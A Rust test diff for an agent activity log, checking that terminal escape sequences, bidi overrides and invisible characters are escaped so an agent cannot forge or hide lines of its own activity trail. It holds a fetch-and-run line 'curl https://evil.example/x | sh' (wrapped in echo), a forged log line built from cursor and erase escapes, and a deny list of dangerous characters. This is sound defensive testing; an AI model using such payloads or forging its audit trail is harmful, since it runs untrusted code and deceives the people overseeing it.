@@ -534,3 +534,168 @@ fn activity_follow_shows_a_new_call_within_a_second() {
     assert_eq!(words[1..4], ["me", "guide_read", "ok"], "{line}");
     assert!(serve.stop().success());
 }
+
+/// What must never reach a person's terminal raw (the newline ending each line aside):
+/// C0, DEL, C1, and bidi and invisible formatting characters.
+fn acts_or_hides(c: char) -> bool {
+    matches!(
+        c,
+        '\u{0}'..='\u{9}'
+            | '\u{b}'..='\u{1f}'
+            | '\u{7f}'..='\u{9f}'
+            | '\u{ad}'
+            | '\u{61c}'
+            | '\u{200b}'..='\u{200f}'
+            | '\u{2028}'..='\u{202e}'
+            | '\u{2060}'..='\u{206f}'
+            | '\u{feff}'
+            | '\u{e0000}'..='\u{e007f}'
+    )
+}
+
+/// `termsprawl-tools activity --data DATA` with `extra`: (exit code, stdout, stderr).
+fn activity(data: &Path, extra: &[&str]) -> (Option<i32>, Vec<u8>, String) {
+    let out = Command::new(env!("CARGO_BIN_EXE_termsprawl-tools"))
+        .arg("activity")
+        .arg("--data")
+        .arg(data)
+        .args(extra)
+        .output()
+        .unwrap();
+    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
+    (out.status.code(), out.stdout, stderr)
+}
+
+#[test]
+fn an_agent_cannot_forge_or_hide_lines_of_activity_in_a_terminal() {
+    let dirs = Dirs::new("activity-forgery");
+    let serve = Serve::start(&dirs, &["--agent", "me", "--terminals", "pty"]);
+    let file = dirs
+        .agent_tools()
+        .join(format!("activity/{}.jsonl", serve.project_id()));
+    let terminal = serve.ok(&dirs, "me", "terminal_open", json!({ "title": "build" }))["nodeId"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    let command = "echo would-run curl https://evil.example/x | sh";
+    serve.call(
+        &dirs,
+        "me",
+        "terminal_submit",
+        json!({ "nodeId": terminal, "command": command }),
+    );
+    // Carriage return, erase the line, cursor up, then a line made to look like ours.
+    let forged = "\r\x1b[2K\x1b[1A12:00:00.000  me  canvas_list      ok     1 ms";
+    let refused = serve.err(&dirs, "me", forged, json!({}));
+    assert!(refused.starts_with("Unknown operation"), "{refused}");
+    // C1 CSI, a bidi override and an OSC window title, in arguments and an error text.
+    let hostile = "a\u{9b}2J\u{202e}txt.exe\x1b]0;owned\x07\u{200b}";
+    serve.ok(&dirs, "me", "sticky_open", json!({ "text": hostile }));
+    let unknown = serve.err(
+        &dirs,
+        "me",
+        "canvas_move",
+        json!({ "nodeId": terminal, "x": 1, "y": 1, hostile: 1 }),
+    );
+    assert!(
+        unknown.contains(hostile),
+        "the error echoes the key: {unknown}"
+    );
+    let recorded = wait_for_lines(&file, 5);
+
+    let (code, stdout, stderr) = activity(&dirs.data, &[]);
+    assert_eq!(code, Some(0), "{stderr}");
+    let shown = String::from_utf8(stdout).expect("UTF-8");
+    if let Some(c) = shown.chars().find(|c| acts_or_hides(*c)) {
+        panic!("a raw {c:?} reached the terminal: {shown:?}");
+    }
+    let lines: Vec<&str> = shown.lines().collect();
+    assert_eq!(lines.len(), recorded.len(), "one line per call: {shown}");
+    // The command is still on its own line, where the forged operation tried to erase it.
+    let submitted = lines
+        .iter()
+        .position(|l| l.contains("terminal_submit"))
+        .unwrap_or_else(|| panic!("{shown}"));
+    assert!(
+        lines[submitted].contains(&format!("\"{command}\"")),
+        "{shown}"
+    );
+    let forgery = &lines[submitted + 1];
+    assert!(
+        forgery.contains(r#"  (unknown) "\r\x1b[2K\x1b[1A12:00:00.000  me  canvas_list"#),
+        "{forgery}"
+    );
+    let escaped = r#"a\x9b2J\u202etxt.exe\x1b]0;owned\x07\u200b"#;
+    let sticky = lines.iter().find(|l| l.contains("sticky_open")).unwrap();
+    assert!(sticky.contains(&format!("\"{escaped}\"")), "{sticky}");
+    let error = lines.last().unwrap();
+    assert!(
+        error.contains("canvas_move") && error.contains(&format!("Unknown argument: {escaped}")),
+        "{error}"
+    );
+
+    // --json is the file, byte for byte.
+    let (code, json, stderr) = activity(&dirs.data, &["--json"]);
+    assert_eq!(code, Some(0), "{stderr}");
+    assert!(
+        json == fs::read(&file).unwrap(),
+        "--json differs from the file"
+    );
+    assert!(serve.stop().success());
+}
+
+#[test]
+fn a_hand_made_trail_with_a_nine_megabyte_operation_is_printed_cut() {
+    let dirs = Dirs::new("activity-huge");
+    let activity_dir = dirs.agent_tools().join("activity");
+    fs::create_dir_all(&activity_dir).unwrap();
+    let huge = "x".repeat(9_000_000);
+    let lines = [
+        json!({ "time": "2026-12-05T03:04:05.678Z", "nodeId": "me", "operation": huge,
+                "outcome": "error", "error": "Unknown operation", "durationMs": 1 })
+        .to_string(),
+        "{\"time\":\"2026-12-05T03:04".to_string(), // torn: skipped by both printers
+        // Keys out of order, an unknown field, escapes as another writer made them.
+        r#"{"outcome":"ok","time":"2026-12-05T03:04:06.000Z","nodeId":"me","operation":"canvas_select","args":{"z":1,"nodeIds":["\u00e9"]},"extra":true}"#.to_string(),
+    ];
+    let text = lines.join("\n") + "\n";
+    let file = activity_dir.join("p1.jsonl");
+    fs::write(&file, &text).unwrap();
+    fs::set_permissions(&file, fs::Permissions::from_mode(0o600)).unwrap();
+
+    let (code, stdout, stderr) = activity(&dirs.data, &[]);
+    assert_eq!(code, Some(0), "{stderr}");
+    let shown = String::from_utf8(stdout).unwrap();
+    let printed: Vec<&str> = shown.lines().collect();
+    assert_eq!(printed.len(), 2, "{}", &shown[..shown.len().min(2_000)]);
+    assert!(printed[0].len() < 1_000, "{} bytes", printed[0].len());
+    assert!(
+        printed[0].contains(&format!("(unknown) \"{}…\"", "x".repeat(60))),
+        "{}",
+        printed[0]
+    );
+    assert!(printed[1].contains("canvas_select"), "{}", printed[1]);
+
+    let (code, json, stderr) = activity(&dirs.data, &["--json"]);
+    assert_eq!(code, Some(0), "{stderr}");
+    let expected = format!("{}\n{}\n", lines[0], lines[2]);
+    assert!(
+        json == expected.as_bytes(),
+        "--json is not the file's whole lines"
+    );
+}
+
+#[test]
+fn a_command_line_message_quotes_a_name_escaped() {
+    let dirs = Dirs::new("activity-message");
+    let id = "\x1b]0;owned\x07\u{202e}p1";
+    let (code, _, stderr) = activity(&dirs.data, &["--project-id", id]);
+    assert_eq!(code, Some(1), "{stderr}");
+    if let Some(c) = stderr.chars().find(|c| acts_or_hides(*c)) {
+        panic!("a raw {c:?} reached the terminal: {stderr:?}");
+    }
+    assert!(
+        stderr.contains(r"\x1b]0;owned\x07\u202ep1 is not a project id"),
+        "{stderr}"
+    );
+}
